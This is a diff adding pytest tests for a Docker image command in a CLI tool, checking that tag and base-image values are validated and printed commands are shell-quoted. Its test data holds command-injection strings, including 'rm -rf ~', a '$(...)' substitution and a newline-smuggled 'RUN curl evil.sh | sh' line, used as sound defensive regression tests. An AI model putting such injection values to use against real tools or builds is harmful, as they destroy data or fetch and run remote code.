@@ -11,6 +11,9 @@ import re
 import shlex
 import zipfile
 
+import pytest
+
+from kilocard.base.shell import image_reference
 from kilocard.cli import main
 from kilocard.launch.image import DEFAULT_BASE, dockerfile
 from kilocard.launch.package import mcore_range
@@ -68,3 +71,43 @@ def test_image_verb_writes_the_build_context_and_the_import_line(tmp_path, capsy
 def test_image_base_is_configurable(tmp_path, capsys):
     assert main(["image", "--output", str(tmp_path / "c"), "--base", "registry.site/nemo:26.01"]) == 0
     assert instructions((tmp_path / "c" / "Dockerfile").read_text())[0] == ("FROM", "registry.site/nemo:26.01")
+
+
+@pytest.mark.parametrize(
+    ("flag", "value"),
+    [
+        ("--tag", "x; rm -rf ~"),  # was printed unquoted in the `docker build` line
+        ("--tag", "$(touch /tmp/owned)"),
+        ("--base", "ubuntu:22.04\nRUN curl evil.sh | sh"),  # was a second RUN line in the Dockerfile
+        ("--base", "Ubuntu"),  # an image name is lower case
+        ("--base", ""),
+    ],
+)
+def test_image_references_are_validated_before_anything_is_written(flag, value, tmp_path, capsys):
+    rc = main(["image", "--output", str(tmp_path / "c"), flag, value])
+    err = capsys.readouterr().err
+    assert rc == 2 and not (tmp_path / "c").exists()
+    assert err.startswith(f"kilocard image: error: {flag}: ") and "an image reference" in err
+    assert len(err.strip().splitlines()) == 1
+
+
+@pytest.mark.parametrize(
+    "ref", ["kilocard:0.1.0", "nvcr.io/nvidia/nemo:26.04", "localhost:5000/team/kc_x-1:v2", "a/b@sha256:" + "ab" * 32]
+)
+def test_image_reference_accepts_what_docker_does(ref):
+    assert image_reference("--tag", ref) == ref
+
+
+def test_printed_commands_are_quoted_for_the_shell(tmp_path, capsys):
+    """An output folder with a space (or any character) splits back into the same words."""
+    out = tmp_path / "my ctx"
+    assert main(["image", "--output", str(out), "--tag", "site/kilocard:1"]) == 0
+    lines = {line.split(":", 1)[0]: line.split(":", 1)[1] for line in capsys.readouterr().out.splitlines()}
+    assert shlex.split(lines["build"]) == ["docker", "build", "-t", "site/kilocard:1", str(out)]
+    assert shlex.split(lines["import"]) == [
+        "enroot",
+        "import",
+        "-o",
+        f"{out}/site_kilocard-1.sqsh",
+        "dockerd://site/kilocard:1",
+    ]
